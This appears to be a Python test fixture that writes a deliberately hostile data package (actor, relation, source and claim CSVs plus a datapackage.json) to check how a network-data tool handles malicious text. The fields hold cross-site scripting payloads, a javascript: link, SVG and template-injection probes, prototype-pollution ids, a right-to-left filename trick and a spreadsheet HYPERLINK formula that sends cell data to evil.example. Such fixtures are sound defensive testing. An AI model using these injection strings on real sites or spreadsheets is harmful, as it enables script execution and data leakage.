"""A network that means harm: every text in it, as far as the format takes it."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

SCRIPT = "<script>window.__pwned=1</script>"
IMAGE = '"><img src=x onerror="window.__pwned=2">'
SVG_TEXT = "</text></svg><svg onload='window.__pwned=3'><!--]]>&amp;{{7*7}}${8*8}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"go")'
RIGHT_TO_LEFT = "\u202egpj.elif\u202c \u200f\u2066حزب\u2069"
LINK = "javascript:window.__pwned=4"
LONG = "x\"<u>'&" * 1428
NOTE = f"{SCRIPT} {IMAGE}\n{LINK} {LONG}"[:10_000]
TITLE = f"</title>{SCRIPT}{IMAGE}"
LONG_NAME = f"<i>{'W' * 490}</i>"


def rows(*lines: tuple[str, ...]) -> str:
    written = io.StringIO()
    csv.writer(written, lineterminator="\n").writerows(lines)
    return written.getvalue()


LONGEST_ID = "-".join(["constructor"] * 7)[:80].rstrip("-")
ACTORS = (
    ("__proto__", "proto"),
    (SCRIPT, "a1"),
    (IMAGE, "a2"),
    (SVG_TEXT, "constructor"),
    (FORMULA, LONGEST_ID),
    (RIGHT_TO_LEFT, "a4"),
    (LONG_NAME, "a5"),
    (LINK, "tostring"),
)


def write_network(folder: Path) -> Path:
    """A network whose every text means harm, as far as the format takes it."""
    folder.mkdir()
    package = {
        "profile": "data-package",
        "name": "hostile",
        "title": TITLE,
        "description": NOTE,
        "resources": [],
    }
    files = {
        "actors.csv": rows(
            ("id", "kind", "name", "name_fa", "aliases", "note"),
            *(
                (id_, "organisation" if id_ == "a2" else "state", name, name, f"{SCRIPT}|=1", NOTE)
                for name, id_ in ACTORS
            ),
        ),
        "relations.csv": rows(
            ("id", "label", "verb", "sign", "directed", "unit", "note"),
            ("membership", SCRIPT, "is a member of", "1", "true", "", NOTE),
            ("r1", IMAGE, SVG_TEXT, "1", "true", TITLE, NOTE),
            ("r2", FORMULA, RIGHT_TO_LEFT, "-1", "false", "", ""),
            ("valueof", LONG_NAME, LONG_NAME, "-1", "true", "", ""),
        ),
        "sources.csv": rows(
            ("id", "title", "publisher", "date", "url", "kind", "reliability", "citation"),
            ("s1", TITLE, SVG_TEXT, "2020", "https://evil.example/?'onclick=1", SCRIPT, "A", NOTE),
            ("s2", FORMULA, RIGHT_TO_LEFT, "2021", "", LINK, "F", LONG),
        ),
        "coverage.csv": rows(("source", "relation", "from", "to", "first", "last", "every")),
        "claims.csv": rows(
            (
                *("id", "from", "to", "relation", "stance", "claimant", "credibility", "form"),
                *("weight", "unit", "source", "locator", "note"),
            ),
            *(
                (
                    *(f"c{n}", from_, to, relation, stance, claimant, "", f"{SCRIPT}|+1"),
                    *("1", IMAGE, source, FORMULA, NOTE),
                )
                for n, (from_, to, relation, stance, claimant, source) in enumerate(
                    (
                        ("a1", "constructor", "r1", "asserts", SCRIPT, "s1"),
                        ("a1", "constructor", "r1", "denies", IMAGE, "s2"),
                        ("constructor", LONGEST_ID, "r1", "asserts", "", "s2"),
                        ("a4", "a5", "r2", "asserts", FORMULA, "s1"),
                        ("proto", "tostring", "valueof", "asserts", RIGHT_TO_LEFT, "s1"),
                        ("a1", "tostring", "valueof", "denies", LINK, "s2"),
                        ("a4", "a2", "membership", "asserts", "", "s1"),
                        ("a5", "a2", "membership", "asserts", "", "s1"),
                        ("proto", "a2", "membership", "asserts", "", "s1"),
                    )
                )
            ),
        ),
        "datapackage.json": json.dumps(package, ensure_ascii=False),
    }
    for name, content in files.items():
        (folder / name).write_text(content, "utf-8")
    return folder
